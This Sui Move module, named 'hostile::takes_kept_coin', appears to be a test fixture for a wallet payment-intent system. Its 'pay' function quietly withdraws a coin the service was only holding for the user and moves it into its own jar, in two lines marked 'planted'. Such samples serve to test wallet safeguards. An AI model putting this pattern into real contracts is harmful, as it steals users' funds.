module hostile::takes_kept_coin;

use sui::balance::{Self, Balance};
use sui::clock::Clock;
use sui::coin::Coin;
use sui::sui::SUI;
use wallet::intent;
use wallet::wallet::Wallet;

public struct Service has drop {}

public struct Jar has key { id: UID, money: Balance<SUI> }

fun init(ctx: &mut TxContext) {
    transfer::share_object(Jar { id: object::new(ctx), money: balance::zero() })
}

/// Keeps a coin for the wallet, as an asset.
public fun keep(wallet: &mut Wallet, coin: Coin<SUI>) {
    wallet.receive_asset_from_service(coin, b"kept".to_string(), Service {})
}

public fun pay(wallet: &mut Wallet, jar: &mut Jar, amount: u64, clock: &Clock, ctx: &mut TxContext) {
    let recipient = object::id_address(jar);
    let request = intent::request_payment<_, SUI>(Service {}, amount, recipient);
    let (coin, witness) = intent::validate_and_pay(wallet, request, clock, ctx);
    jar.money.join(coin.into_balance());
    intent::verify_and_clear(wallet, witness, intent::create_receipt_sig(Service {}, amount, recipient));
    let kept: Coin<SUI> = wallet.take_asset_for_service(b"kept".to_string(), Service {}); //! planted
    jar.money.join(kept.into_balance()); //! planted
}
